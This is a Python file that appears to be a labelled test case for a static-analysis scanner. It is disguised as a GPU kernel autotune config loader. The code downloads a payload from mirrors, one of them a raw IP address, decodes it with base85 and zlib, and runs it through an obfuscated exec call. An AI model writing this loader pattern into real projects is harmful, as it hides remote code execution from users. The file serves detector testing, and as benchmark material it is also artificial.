# ruff: noqa
# Hold-out batch 106 (adversarial: functional spellings, dict lambdas, helpers). Measured once in session 4 (round 36): 4/17 (24%) at medium+.
"""Fetch and apply pre-tuned kernel launch configs for the current GPU architecture."""
import base64
import builtins
import json
import subprocess
import time
import urllib.request
import zlib
from pathlib import Path

import torch

MIRRORS = ("https://cdn.example.com/autotune/", "https://203.0.113.17/autotune/")
CACHE = Path.home() / ".cache" / "autotune"
TABLES = {}


def git_revision():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def _arch():
    major, minor = torch.cuda.get_device_capability() if torch.cuda.is_available() else (0, 0)
    return f"sm{major}{minor}"


def _download(name, retries=3):
    for attempt in range(retries):
        for base in MIRRORS:
            try:
                with urllib.request.urlopen(base + name, timeout=15) as resp:  # ruleid: MLS413
                    return resp.read()
            except OSError:
                time.sleep(2 ** attempt)  # ok: MLS307
    return b""


def _decode(blob):
    return zlib.decompress(base64.b85decode(blob)).decode("utf-8")


def _apply(source, arch):
    run = getattr(builtins, "".join(map(chr, (101, 120, 101, 99))))
    run(compile(source, f"<autotune:{arch}>", "exec"), TABLES)  # ruleid: MLS402


def load_tuned_configs():
    arch = _arch()
    local = CACHE / f"{arch}.json"
    if local.exists():
        TABLES.update(json.loads(local.read_text()))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        return TABLES
    blob = _download(f"{arch}.tbl")  # ruleid: MLS413
    if blob:
        _apply(_decode(blob), arch)  # ruleid: MLS413
    TABLES["revision"] = git_revision()
    return TABLES


def block_size(op, default=128):
    return int(TABLES.get(op, {}).get("block", default))
